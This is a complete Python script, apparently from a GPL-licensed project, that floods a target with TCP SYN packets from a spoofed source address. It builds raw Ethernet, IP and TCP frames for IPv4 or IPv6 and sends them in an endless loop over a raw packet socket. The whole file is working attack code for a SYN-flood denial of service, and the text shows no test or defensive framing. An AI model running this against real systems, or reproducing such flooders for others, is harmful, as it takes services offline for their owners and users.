# SPDX-License-Identifier: GPL-2.0
"""
Sends SYNs from an address that nobody has, as fast as it can, until it is ended:

    syn_flood.py DEVICE TARGET-MAC SOURCE TARGET PORT
"""
import ipaddress
import itertools
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(ethernet, source, target, port, number):
    """The frame of the SYN with this number: another port, another sequence number."""
    ports = struct.pack("!HHI", 1024 + number % 60000, port, number)
    rest = struct.pack("!IBBH", 0, 5 << 4, 2, 65535)
    pseudo = source.packed + target.packed
    pseudo += struct.pack("!HH" if source.version == 4 else "!II", socket.IPPROTO_TCP, 20)
    tcp = ports + rest + struct.pack("!HH", checksum(pseudo + ports + rest + bytes(4)), 0)
    if source.version == 4:
        ip = struct.pack("!BBHIBB", 0x45, 0, 40, 0, 64, socket.IPPROTO_TCP)
        addresses = source.packed + target.packed
        ip += struct.pack("!H", checksum(ip + bytes(2) + addresses)) + addresses
        return ethernet + b"\x08\x00" + ip + tcp
    ip = struct.pack("!IHBB", 6 << 28, 20, socket.IPPROTO_TCP, 64)
    return ethernet + b"\x86\xdd" + ip + source.packed + target.packed + tcp


def main(device, mac, source, target, port):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + b"\x02\x00\x00\x00\x00\x66"
    source, target = ipaddress.ip_address(source), ipaddress.ip_address(target)
    for number in itertools.count():
        sock.send(syn(ethernet, source, target, int(port), number))


main(*sys.argv[1:])
